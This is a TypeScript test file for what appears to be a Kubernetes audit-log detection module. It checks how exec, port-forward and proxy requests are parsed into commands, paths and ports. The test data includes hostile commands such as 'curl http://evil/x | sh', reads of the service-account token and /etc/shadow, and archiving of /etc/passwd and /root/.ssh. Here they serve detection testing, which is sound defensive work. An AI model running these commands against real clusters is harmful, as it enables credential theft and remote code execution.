import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import test from 'node:test';
import { connectionOf } from '../../../../src/detect/connect/connection.ts';
import { decoded, eventWith, recordOf, reviewRecord, wrongTypesIn } from '../support.ts';

const FIXTURE = join(import.meta.dirname, '../../../fixtures/detect/connections.ndjson');

function found(resource: string, subresource: string, requestURI: string, fields: object = {}) {
  const objectRef = { resource, subresource, namespace: 'dev', name: 'web', apiVersion: 'v1' };
  return connectionOf(decoded(recordOf(eventWith({ verb: 'get', objectRef, requestURI, ...fields }))));
}

const command = (query: string) => found('pods', 'exec', `/api/v1/namespaces/dev/pods/web/exec${query}`);

test('what recorded connections were for', () => {
  const lines = readFileSync(FIXTURE, 'utf8').trim().split('\n');
  const interactive = { stdin: false, tty: false };
  const exec = (argv: string[], fields: object = {}) => ({
    argv,
    command: argv.join(' '),
    container: 'c',
    ...interactive,
    ...fields,
  });
  assert.deepEqual(
    lines.map((line) => connectionOf(decoded(recordOf(line)))),
    [
      exec(['id']),
      exec(['/bin/sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'], { stdin: true }),
      exec(['whoami']),
      exec(['sh', '-c', 'curl http://evil/x | sh'], { stdin: true, tty: true }),
      { container: 'c', ...interactive },
      {},
      exec(['tar', 'cf', '-', '/etc/passwd']),
      { path: '/metrics' },
      { path: '/pods' },
      { argv: ['id'], command: 'id', path: '/run/dev/victim/c' },
      { argv: ['id'], command: 'id', path: '/exec/dev/victim/c' },
    ],
  );
});

test('an admission review holds the options in its object', () => {
  const review = (kind: string, subResource: string, resource: string, fields: object) =>
    connectionOf(
      decoded(
        reviewRecord({
          uid: 'u',
          operation: 'CONNECT',
          kind: { kind },
          resource: { resource, version: 'v1' },
          subResource,
          name: 'https:web:8443',
          object: { kind, apiVersion: 'v1', ...fields },
        }),
      ),
    );
  assert.deepEqual(
    review('PodExecOptions', 'exec', 'pods', { command: ['sh', '-c', 'id'], container: 'c', tty: true }),
    { argv: ['sh', '-c', 'id'], command: 'sh -c id', container: 'c', stdin: false, tty: true },
  );
  assert.deepEqual(review('PodPortForwardOptions', 'portforward', 'pods', { ports: [80, 'x', null] }), {
    ports: [80],
  });
  assert.deepEqual(review('NodeProxyOptions', 'proxy', 'nodes', { path: '/run/dev/web/c' }), {
    path: '/run/dev/web/c',
    port: '8443',
  });
});

test('a command reads as it will run, however it is written', () => {
  const cases: [query: string, command: string | undefined][] = [
    ['?command=tar&command=cf&command=-&command=%2Fetc', 'tar cf - /etc'],
    ['?command=cat+%2Fetc%2Fshadow&container=c', 'cat /etc/shadow'],
    ['?co%6dmand=%69%64', 'id'],
    ['?command=a%2Bb%26c', 'a+b&c'],
    ['?stdin=true&command=sh&x=1&command=-i', 'sh -i'],
    ['?command=%zz%', '%zz%'],
    ['?command=%ff', '\ufffd'],
    ['?Command=id', undefined],
    ['?command', ''],
    ['', undefined],
    ['?', undefined],
  ];
  for (const [query, expected] of cases) assert.equal(command(query)?.command, expected, query);
  assert.equal(command(`?${'command=a&'.repeat(20_000)}`)?.argv?.length, 10_000);
});

test('a command is taken from the body where only that was recorded', () => {
  const body = {
    requestObject: { command: ['tar', 'cf', '-', '/root/.ssh'], container: 'api', stdin: true },
  };
  const expected = 'tar cf - /root/.ssh';
  for (const requestURI of [null, '/api/v1/namespaces/dev/pods/web/exec']) {
    assert.deepEqual(
      [found('pods', 'exec', '', { ...body, requestURI })].map((it) => [
        it?.command,
        it?.container,
        it?.stdin,
      ]),
      [[expected, 'api', true]],
    );
  }
  assert.equal(found('pods', 'exec', '/x?command=id', body)?.command, 'id', 'the address is what counts');
  assert.equal(found('pods', 'exec', '', { requestObject: { command: 'id' } })?.command, 'id');
});

test('a command is taken from the annotation where neither address nor body has it', () => {
  const annotations = { 'command.gke.io/command': 'cat /etc/shadow' };
  const uri = '/api/v1/namespaces/dev/pods/web/exec';
  const { argv, command } = found('pods', 'exec', uri, { annotations }) ?? {};
  assert.deepEqual([argv, command], [['cat /etc/shadow'], 'cat /etc/shadow']);
  assert.equal(found('pods', 'exec', `${uri}?command=id`, { annotations })?.command, 'id');
  const requestObject = { command: ['id'] };
  assert.equal(found('pods', 'exec', uri, { annotations, requestObject })?.command, 'id');
  assert.equal(found('pods', 'portforward', uri, { annotations })?.command, undefined);
  const wrong = { 'command.gke.io/command': ['id'], 'command.gke.io': 'id' };
  assert.equal(found('pods', 'exec', uri, { annotations: wrong })?.command, undefined);
});

test('a flag that is there is set, as the API server reads it', () => {
  const tty = (query: string) => command(query)?.tty;
  for (const query of ['?tty=true', '?tty=1', '?tty', '?tty=yes', '?tty=true&tty=false'])
    assert.equal(tty(query), true, query);
  for (const query of ['', '?tty=false', '?tty=FALSE', '?tty=0', '?stdin=true'])
    assert.equal(tty(query), false, query);
});

test('where a proxy leads', () => {
  const proxy = (resource: string, requestURI: string) => {
    const { path, port, command } = found(resource, 'proxy', requestURI) ?? {};
    return [path, port, command];
  };
  const ns = '/api/v1/namespaces/dev';
  const cases: [resource: string, uri: string, expected: unknown[]][] = [
    ['services', `${ns}/services/web:http/proxy/api/%76ersion?x=1`, ['/api/version', 'http', undefined]],
    ['services', `${ns}/services/https:web:8443/proxy/`, ['/', '8443', undefined]],
    ['services', `${ns}/services/https%3Aweb%3A8443/proxy`, ['/', '8443', undefined]],
    ['services', `${ns}/services/https:web:/proxy`, ['/', undefined, undefined]],
    ['pods', `${ns}/pods/web:8080/proxy/a/proxy/b?cmd=id`, ['/a/proxy/b', '8080', undefined]],
    ['pods', '/api/v1/namespaces/proxy/pods/proxy/proxy/x', ['/x', undefined, undefined]],
    [
      'nodes',
      '/api/v1/nodes/n1:10250/proxy/run/dev/web/c?cmd=cat+%2Fx',
      ['/run/dev/web/c', '10250', 'cat /x'],
    ],
    ['nodes', '/api/v1/nodes/n1/proxy/exec/d/p/c?command=ls&command=-l', ['/exec/d/p/c', undefined, 'ls -l']],
    ['nodes', '/api/v1/nodes/n1/proxy//logs/%', ['/logs/%', undefined, undefined]],
    ['nodes', '', ['/', undefined, undefined]],
  ];
  for (const [resource, uri, expected] of cases) assert.deepEqual(proxy(resource, uri), expected, uri);
});

test('ports to forward are those that the request names', () => {
  const ports = (query: string) => found('pods', 'portforward', `/x/portforward${query}`)?.ports;
  assert.deepEqual(ports('?ports=80&ports=443'), [80, 443]);
  assert.deepEqual(ports('?ports=80,443'), [80, 443]);
  assert.equal(ports('?ports=x&ports=&ports=-1'), undefined);
});

test('other requests open no connection', () => {
  for (const subresource of ['', 'log', 'status', 'ephemeralcontainers', 'constructor'])
    assert.equal(found('pods', subresource, '/x?command=id'), undefined, subresource);
});

test('a wrong type in the place of any field throws nothing', () => {
  for (const subresource of ['exec', 'portforward', 'proxy']) {
    const event = eventWith({
      objectRef: { resource: 'nodes', subresource, name: 'n:1' },
      requestURI: null,
      requestObject: { command: ['id'], container: 'c', tty: true, ports: [1], path: '/x' },
    });
    for (const _ of wrongTypesIn(event)) {
      try {
        connectionOf(decoded(recordOf(event)));
      } catch (error) {
        assert.equal((error as { code?: string }).code, 'ITEM_NOT_AN_EVENT', String(error));
      }
    }
  }
});
